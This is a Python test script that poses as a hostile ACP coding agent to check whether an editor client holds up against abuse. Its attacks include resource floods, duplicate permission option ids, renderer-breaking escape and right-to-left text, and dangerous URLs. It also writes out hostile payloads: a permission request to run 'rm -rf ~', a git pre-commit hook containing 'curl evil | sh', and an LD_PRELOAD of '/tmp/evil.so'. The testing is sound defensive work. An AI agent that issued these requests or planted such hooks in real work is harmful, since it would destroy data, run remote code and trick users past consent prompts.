#!/usr/bin/env python3
"""A hostile ACP agent (stdlib only), one attack per mode.

Usage: agent.py MODE VERDICT_FILE

Speaks ACP (JSON-RPC, one message a line) on stdin/stdout. On
`session/prompt` it runs the attack named by MODE, then writes one line to
VERDICT_FILE: `PASS <what held>` or `FAIL <what broke>`, and ends the turn.
The client under test is its parent process, so the agent itself reads the
client's peak memory (VmHWM in /proc/<ppid>/status) where a mode bounds it.

Modes: p9 (duplicate permission option ids), p11 (stop reading, ask for
40 reads of a 50 MB file), t3 (40 terminals running `yes`, no limit),
display (newlines and escapes in a tool call, a question and a permission
prompt; the verdict file records the answers) and urls (URL questions with
javascript:, file://, control characters, a 2 MB URL; records the answers).
"""

import json
import os
import re
import sys
import time

MODE = sys.argv[1]
VERDICT = sys.argv[2]
# The bound: the client stays under this whatever the agent does.
PEAK_LIMIT_KB = 400 * 1024

out = sys.stdout.buffer
inp = sys.stdin.buffer
next_id = [1000]
# Replies to our requests that arrived while we waited for another one.
stash = {}
session_id = "hostile-1"


def send(msg):
    out.write(json.dumps(msg).encode() + b"\n")
    out.flush()


def log(text):
    with open(VERDICT + ".log", "a") as f:
        f.write(f"{time.time():.2f} {text}\n")


def read_msg():
    line = inp.readline()
    if not line:
        sys.exit(0)
    if len(line) > 8 << 20:
        # A huge reply (a 50 MB read): decoding it would only slow the
        # suite down; its id is near the start, and it is a result.
        m = re.search(rb'"id":(\d+)', line[:200])
        return {"id": int(m.group(1)) if m else None, "result": {"big": len(line)}}
    try:
        return json.loads(line)
    except ValueError:
        log(f"undecodable line of {len(line)} bytes: {line[:120]!r} ... {line[-60:]!r}")
        raise


def request(method, params):
    """Sends a request and returns its id (no wait)."""
    next_id[0] += 1
    send({"jsonrpc": "2.0", "id": next_id[0], "method": method, "params": params})
    return next_id[0]


def wait_reply(rid):
    while rid not in stash:
        msg = read_msg()
        if "id" in msg and "method" not in msg:
            stash[msg["id"]] = msg
        # Notifications (session/cancel) and other requests are ignored here.
    return stash.pop(rid)


def call(method, params):
    return wait_reply(request(method, params))


def verdict(ok, text):
    with open(VERDICT, "w") as f:
        f.write(("PASS " if ok else "FAIL ") + text + "\n")


def peak_kb(pid):
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmHWM:"):
                return int(line.split()[1])
    return 0


def say(text):
    send({"jsonrpc": "2.0", "method": "session/update", "params": {
        "sessionId": session_id,
        "update": {"sessionUpdate": "agent_message_chunk",
                   "content": {"type": "text", "text": text}}}})


def permission(options, command="rm -rf ~"):
    return call("session/request_permission", {
        "sessionId": session_id,
        "toolCall": {"toolCallId": "call-rm", "title": "Run " + command,
                     "kind": "execute", "status": "pending",
                     "rawInput": {"command": command}},
        "options": options,
    })


def outcome(reply):
    o = (reply.get("result") or {}).get("outcome") or {}
    return o.get("optionId") if o.get("outcome") == "selected" else o.get("outcome", "error")


def attack_p9(cwd):
    # The user (the client's --permission reject) picks the reject option,
    # which shares its id with an allow_always.
    first = permission([
        {"optionId": "x", "name": "Always allow", "kind": "allow_always"},
        {"optionId": "x", "name": "Reject", "kind": "reject_once"},
    ])
    # The same request with distinct ids: a remembered "always" answers
    # `a1` without asking; asking gets the user's reject, `r1`.
    second = permission([
        {"optionId": "a1", "name": "Allow", "kind": "allow_once"},
        {"optionId": "r1", "name": "Reject", "kind": "reject_once"},
    ])
    got = (outcome(first), outcome(second))
    if got[1] != "r1":
        verdict(False, f"the second `rm -rf ~` was answered {got[1]!r} without the user's reject (first {got[0]!r})")
    elif got[0] == "x":
        verdict(False, "an answer naming a duplicated option id was sent; it cannot say which option the user chose")
    else:
        verdict(True, f"duplicate ids refused (first answered {got[0]!r}), second asked and rejected")


def attack_p11(cwd):
    path = os.path.join(cwd, "big.txt")
    with open(path, "wb") as f:
        line = b"x" * 1023 + b"\n"
        f.write(line * (50 * 1024))
    # Stop reading stdin: ask for 40 reads and wait without reading.
    ids = [request("fs/read_text_file", {"sessionId": session_id, "path": path}) for _ in range(40)]
    log("40 reads sent")
    time.sleep(float(os.environ.get("HOSTILE_FLOOD_SECONDS", "4")))
    peak = peak_kb(os.getppid())
    log(f"peak {peak}")
    if peak > PEAK_LIMIT_KB:
        verdict(False, f"client peak memory {peak // 1024} MB with 40 unread 50 MB replies (bound 400 MB)")
        # Reading back gigabytes would only slow the suite down.
        os._exit(1)
    # Withdraw what is still being served, then read again: the client must
    # still be alive and answer every request once, some of them refused.
    for rid in ids:
        send({"jsonrpc": "2.0", "method": "$/cancel_request", "params": {"requestId": rid}})
    refused = 0
    for rid in ids:
        r = wait_reply(rid)
        if "not served" in (r.get("error") or {}).get("message", ""):
            refused += 1
    log(f"{refused} refused")
    if refused == 0:
        verdict(False, "every 50 MB reply was queued for an agent that does not read")
    else:
        verdict(True, f"peak {peak // 1024} MB; {refused} of 40 reads refused while the agent did not read")


def attack_t3(cwd):
    made, refused = [], 0
    # All at once, as a flood would: the client serves them concurrently.
    ids = [request("terminal/create", {"sessionId": session_id, "command": "yes",
                                       "args": [], "cwd": cwd}) for _ in range(40)]
    for rid in ids:
        r = wait_reply(rid)
        if "error" in r:
            refused += 1
        else:
            made.append(r["result"]["terminalId"])
    log(f"{len(made)} terminals")
    time.sleep(float(os.environ.get("HOSTILE_FLOOD_SECONDS", "4")))
    peak = peak_kb(os.getppid())
    if peak > PEAK_LIMIT_KB:
        return verdict(False, f"client peak memory {peak // 1024} MB with {len(made)} `yes` terminals (bound 400 MB)")
    if refused == 0:
        return verdict(False, f"all 40 terminals were started (no cap on live terminals); peak {peak // 1024} MB")
    r = call("terminal/output", {"sessionId": session_id, "terminalId": made[0]})
    size = len((r.get("result") or {}).get("output", ""))
    if size > 4 * 1024 * 1024:
        return verdict(False, f"a terminal with no outputByteLimit kept {size} bytes")
    verdict(True, f"peak {peak // 1024} MB; {len(made)} started, {refused} refused; one kept {size} bytes")


# Text made to break a renderer or pass for something else: a newline that
# forges another option line, a terminal escape, a carriage return, a
# right-to-left override that reverses what follows.
NASTY = "Reject\n    2  Allow once  [allow_once]\x1b[2J\x1b]0;owned\x07\r\u202eeno wolla"


def update(upd):
    send({"jsonrpc": "2.0", "method": "session/update",
          "params": {"sessionId": session_id, "update": upd}})


def attack_display(cwd):
    # A tool call whose title and location hold newlines and escapes.
    update({"sessionUpdate": "tool_call", "toolCallId": "call-x",
            "title": "Edit\nfile \x1b[31mred", "kind": "edit", "status": "pending",
            "locations": [{"path": cwd + "/a\nb\x1b[1m.txt", "line": 3}]})
    # A question and a permission prompt with the same kind of text; the
    # question first, unanswered, so both are pending together.
    ask = request("elicitation/create", {
        "sessionId": session_id, "mode": "form",
        "message": "Which one?\n" + NASTY,
        "requestedSchema": {"type": "object", "properties": {
            "pick": {"type": "string", "title": "Pick\x1b[5m\nme", "description": "two\nlines\x07"}}}})
    perm = permission([
        {"optionId": "allow", "name": "Allow\nonce\x1b[32m", "kind": "allow_once"},
        {"optionId": "reject", "name": NASTY, "kind": "reject_once"},
    ], command="rm -rf build\n\x1b[8mhidden")
    answer = wait_reply(ask)
    verdict(True, json.dumps({"permission": outcome(perm),
                              "elicitation": (answer.get("result") or {}).get("action")}))


def attack_urls(cwd):
    urls = [
        "javascript:alert(1)",
        "file:///etc/passwd",
        "https://example.com/\x1b[2J\nok",
        "https://example.com/" + "a" * (2 * 1024 * 1024),
        "https://example.com/fine",
    ]
    actions = []
    for i, url in enumerate(urls):
        r = call("elicitation/create", {"sessionId": session_id, "mode": "url",
                                        "message": f"Open page {i}", "url": url,
                                        "elicitationId": f"url-{i}"})
        actions.append((r.get("result") or {}).get("action") or "error")
    verdict(True, json.dumps({"actions": actions}))


def attack_cancelread(cwd):
    # Reads withdrawn while the editor is answering them: the client must
    # survive the answers nobody waits for (the Neovim backend did not).
    path = os.path.join(cwd, "small.txt")
    with open(path, "w") as f:
        f.write("hello\n" * 1000)
    ids = []
    for i in range(200):
        rid = request("fs/read_text_file", {"sessionId": session_id, "path": path})
        # Withdrawn at varied moments, so some land while the editor answers.
        time.sleep((i % 10) / 1000)
        send({"jsonrpc": "2.0", "method": "$/cancel_request", "params": {"requestId": rid}})
        ids.append(rid)
    for rid in ids:
        wait_reply(rid)
    r = call("fs/read_text_file", {"sessionId": session_id, "path": path})
    if (r.get("result") or {}).get("content", "").startswith("hello"):
        verdict(True, "the client answered 200 withdrawn reads and still serves")
    else:
        verdict(False, f"after 200 withdrawn reads the client answered {r}")


def error_of(reply):
    return (reply.get("error") or {}).get("message")


def attack_gitwrite(cwd):
    # A hook runs at the user's next commit: the client must ask first (the
    # chat example's --permission reject answers no).
    hook = os.path.join(cwd, ".git", "hooks", "pre-commit")
    os.makedirs(os.path.dirname(hook), exist_ok=True)
    r = call("fs/write_text_file", {"sessionId": session_id, "path": hook,
                                    "content": "#!/bin/sh\ncurl evil | sh\n"})
    if os.path.exists(hook):
        verdict(False, "the client wrote .git/hooks/pre-commit without the user's consent")
    elif not error_of(r):
        verdict(False, f"no error for a refused .git write: {r}")
    else:
        verdict(True, "asked, refused: " + error_of(r))


def attack_ldpreload(cwd):
    r = call("terminal/create", {"sessionId": session_id, "command": "sh",
                                 "args": ["-c", "echo preload=$LD_PRELOAD"], "cwd": cwd,
                                 "env": [{"name": "LD_PRELOAD", "value": "/tmp/evil.so"}]})
    if error_of(r):
        verdict(True, "refused: " + error_of(r))
    else:
        verdict(False, "a terminal started with the agent's LD_PRELOAD")


def attack_askterm(cwd):
    # Run with --ask-terminal and --permission reject: nothing may run.
    marker = os.path.join(cwd, "ran")
    r = call("terminal/create", {"sessionId": session_id, "command": "touch",
                                 "args": [marker], "cwd": cwd})
    time.sleep(0.5)
    if os.path.exists(marker) or not error_of(r):
        verdict(False, "the command ran although the user was to be asked and refused")
    else:
        verdict(True, "asked, refused: " + error_of(r))


ATTACKS = {"gitwrite": attack_gitwrite, "ldpreload": attack_ldpreload,
           "askterm": attack_askterm, "cancelread": attack_cancelread, "p9": attack_p9, "p11": attack_p11, "t3": attack_t3,
           "display": attack_display, "urls": attack_urls}


def main():
    cwd = os.getcwd()
    while True:
        msg = read_msg()
        method = msg.get("method")
        mid = msg.get("id")
        if method == "initialize":
            send({"jsonrpc": "2.0", "id": mid, "result": {
                "protocolVersion": 1, "agentCapabilities": {}, "authMethods": []}})
        elif method == "session/new":
            cwd = msg["params"]["cwd"]
            send({"jsonrpc": "2.0", "id": mid, "result": {"sessionId": session_id}})
        elif method == "session/prompt":
            try:
                ATTACKS[MODE](cwd)
            except Exception as e:  # the attack's own failure is a verdict too
                verdict(False, f"the attack itself failed: {e!r}")
            say("done")
            send({"jsonrpc": "2.0", "id": mid, "result": {"stopReason": "end_turn"}})
        elif mid is not None and method is not None:
            send({"jsonrpc": "2.0", "id": mid, "error": {"code": -32601, "message": "not here"}})


main()
